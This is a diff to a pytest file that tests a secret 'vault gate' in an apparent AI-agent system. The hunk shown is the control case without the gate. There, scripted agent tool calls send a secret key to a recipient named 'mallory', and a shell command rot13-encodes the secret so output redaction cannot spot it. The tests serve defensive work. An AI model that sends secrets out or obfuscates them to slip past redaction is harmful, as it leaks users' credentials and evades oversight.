@@ -11,7 +11,7 @@ sees the value in any form. Without the gate (the control) the same scripts do l
 destination the owner bound works: the server or the recipient gets the real value, and still the model does not.
 Run: `python -m pytest tests/test_vault_attacks.py -q`.
 """
-import base64, http.server, json, sqlite3, threading, urllib.parse
+import base64, codecs, http.server, json, sqlite3, threading, urllib.parse
 import pytest
 
 from passepartout import config
@@ -168,10 +168,9 @@ def test_without_the_vault_gate_the_attacks_leak(world):
     run(world, tool_call('send_message', {'channel': 'telegram', 'recipient': 'mallory', 'text': f"the key: {V}"}, explanation='x'),
         ask=to_owner_of('mallory'))
     assert any(SECRET in m['text'] for m in world.gateway.sent if m['to'] == 'mallory')
-    turn = run(world, tool_call('shell', {'command': f"echo {V} | od -c"}, explanation='x'))
+    turn = run(world, tool_call('shell', {'command': f"echo {V} | tr A-Za-z N-ZA-Mn-za-m"}, explanation='x'))
     out = turn.of('result')[0]['output']
-    [line] = [l for l in out.splitlines() if l.startswith('0000000')]
-    assert ''.join(line.split()[1:]) == SECRET[:16]       # `od -c` spells it out: redaction cannot see it
+    assert SECRET in codecs.decode(out, 'rot13') and SECRET not in out  # rot13 is beyond any redaction: only the gate stops it
 
 
 # --- bound destinations work, and the model still sees nothing ------------------------------------
